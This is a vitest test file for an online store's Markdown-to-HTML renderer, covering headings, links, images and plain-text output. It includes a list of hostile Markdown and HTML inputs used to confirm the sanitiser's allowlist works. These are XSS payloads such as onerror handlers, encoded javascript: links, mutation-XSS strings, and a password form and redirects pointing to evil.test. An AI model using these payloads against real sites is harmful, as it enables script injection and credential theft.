import { JSDOM } from "jsdom";
import { describe, expect, it, test } from "vitest";
import { picturesOf, renderMarkdown, textOfRendered } from "./markdown.server.ts";

const bodyOf = (text: string) => new JSDOM(`<body>${renderMarkdown(text)}</body>`).window.document.body;

test.each([
  ["# Terms\n\nOf **sale**", "<h2>Terms</h2>\n<p>Of <strong>sale</strong></p>"],
  ["## Terms\n# Of sale", "<h2>Terms</h2>\n<h2>Of sale</h2>"],
  [
    "## One\n#### Two\n### Three\n> ## Four",
    "<h2>One</h2>\n<h3>Two</h3>\n<h3>Three</h3>\n<blockquote>\n<h2>Four</h2>\n</blockquote>",
  ],
  [
    "# 1\n## 2\n### 3\n#### 4\n##### 5\n###### 6",
    "<h2>1</h2>\n<h3>2</h3>\n<h4>3</h4>\n<h5>4</h5>\n<h6>5</h6>\n<h6>6</h6>",
  ],
  ["one\ntwo", "<p>one<br>two</p>"],
  ["3. three", '<ol start="3">\n<li>three</li>\n</ol>'],
  ["[ours](/cart)", '<p><a href="/cart">ours</a></p>'],
  [
    "[theirs](https://a.test/?a=1&b=2)",
    '<p><a href="https://a.test/?a=1&amp;b=2" rel="noopener noreferrer">theirs</a></p>',
  ],
  ["[write](mailto:a@b.test)", '<p><a href="mailto:a@b.test">write</a></p>'],
  ["![A mug](https://a.test/mug.png)", "<p>A mug</p>"],
  ["a <b>c</b>", "<p>a &lt;b&gt;c&lt;/b&gt;</p>"],
  ["- [x] done", "<ul>\n<li>☑ done</li>\n</ul>"],
])("%j becomes %s", (text, html) => {
  expect(renderMarkdown(text)).toBe(html);
});

test.each([
  ["# Mug\n\nOf **clay**, [our own](/pages/clay).", "Mug\n\nOf clay, our own."],
  ["- thrown\n- glazed", "* thrown\n * glazed"],
  ["4 < 5 & 2 * 3 * 4", "4 < 5 & 2 * 3 * 4"],
  ["<b>bold</b>", "<b>bold</b>"],
])("%j reads %j without formatting", (markdown, text) => {
  expect(textOfRendered(renderMarkdown(markdown))).toBe(text);
});

const mug = "/objects/default.0123456789abcdef0123456789abcdef.png";
const known = new Map([[mug, { width: 700, height: 350 }]]);
const picture = `<img src="${mug}" alt="A “mug”" srcset="${mug}?w=160 160w, ${mug}?w=320 320w, ${mug}?w=640 640w, ${mug} 700w" sizes="(min-width: 48rem) 42rem, 100vw" width="700" height="350" loading="lazy" decoding="async">`;

it("shows a picture of the store's own in the sizes that it has, and any other as its description", () => {
  expect(renderMarkdown(`![A “mug”](${mug})`, known)).toBe(`<p>${picture}</p>`);
  const other = mug.replace("0123", "9999");
  expect(renderMarkdown(`![A mug](${other}) ![B](https://a.test/b.png)`, known)).toBe("<p>A mug B</p>");
  expect(renderMarkdown(`![A mug](${mug})`)).toBe("<p>A mug</p>");
  expect(textOfRendered(renderMarkdown(`Of clay ![A mug](${mug})`, known))).toBe("Of clay");
});

it("finds the pictures of a text once each, and no URL of any other kind", () => {
  const text = `![A](${mug}) and ![B](${mug})\n\n- [link](${mug})\n- ![C](https://a.test/c.png)\n\n\`![D](${mug})\``;
  expect(picturesOf(text)).toEqual([{ url: mug, alt: "A" }]);
});

const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>@import 'https://evil.test'</style>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<form action=https://evil.test><input name=password><button>Send</button></form>",
  "<base href=https://evil.test/>",
  "<meta http-equiv=refresh content='0;url=https://evil.test'>",
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](//evil.test)",
  "[x](/\\evil.test)",
  "[x](http://evil.test)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "![x](javascript:alert(1))",
  '![x](x "onerror=alert(1)")',
  '!["onerror="alert(1)](x)',
  '[x](https://a.test "" onmouseover=alert(1) "")',
  '[x](https://a.test/"onmouseover="alert(1))',
  '["><script>alert(1)</script>](https://a.test)',
  "`</code><script>alert(1)</script>`",
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onclick="alert(1)\nx\n```',
  "# x <img src=x onerror=alert(1)>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- <details open ontoggle=alert(1)>",
  "> <body onload=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<x id=cookie name=cookie class=fixed style=position:fixed>x</x>",
  "www.evil.test/<script>alert(1)</script>",
  `${"[".repeat(2000)}x${"](javascript:alert(1))".repeat(200)}`,
  `${"> ".repeat(300)}<script>alert(1)</script>`,
];

const tags = "H2,H3,H4,H5,H6,P,BR,HR,STRONG,EM,DEL,CODE,PRE,BLOCKQUOTE,UL,OL,LI,A,TABLE,THEAD,TBODY,TR,TH,TD".split(
  ",",
);
const attributes = ["href", "rel", "start"];
const addresses = /^(?:https:\/\/|mailto:|tel:|\/(?![/\\])|#)/;

describe("hostile Markdown", () => {
  it.each(hostile.map((text) => [text.slice(0, 80), text]))(
    "%j leaves nothing that runs, loads or leads where it shouldn’t",
    (_, text) => {
      const found = [...bodyOf(text).querySelectorAll("*")];
      expect(found.map(({ tagName }) => tagName).filter((name) => !tags.includes(name))).toEqual([]);
      expect(found.flatMap((each) => each.getAttributeNames()).filter((name) => !attributes.includes(name))).toEqual(
        [],
      );
      const links = found.map((each) => each.getAttribute("href")).filter((href) => href !== null);
      expect(links.filter((href) => !addresses.test(href))).toEqual([]);
    },
  );

  it.each(hostile.map((text) => [text.slice(0, 80), text]))("%j beside a known picture loads that alone", (_, text) => {
    const html = renderMarkdown(`${text}\n\n![Mug](${mug})`, known);
    const found = [...new JSDOM(`<body>${html}</body>`).window.document.querySelectorAll("body *")];
    const pictures = found.filter(({ tagName }) => tagName === "IMG");
    expect(pictures.map((each) => each.getAttribute("src")).filter((src) => src !== mug)).toEqual([]);
    const shown = ["src", "srcset", "sizes", "alt", "width", "height", "loading", "decoding"];
    expect(pictures.flatMap((each) => each.getAttributeNames()).filter((name) => !shown.includes(name))).toEqual([]);
    const others = found.filter((each) => !pictures.includes(each));
    expect(others.map(({ tagName }) => tagName).filter((name) => !tags.includes(name))).toEqual([]);
    const named = others.flatMap((each) => each.getAttributeNames());
    expect(named.filter((name) => !attributes.includes(name))).toEqual([]);
  });

  it("is shown as it was typed", () => {
    expect(bodyOf("<script>alert(1)</script>").textContent).toBe("<script>alert(1)</script>");
  });

  it("doesn’t lose the text of a link that leads nowhere", () => {
    expect(bodyOf("[read this](javascript:alert(1))").innerHTML).toBe("<p><a>read this</a></p>");
  });
});
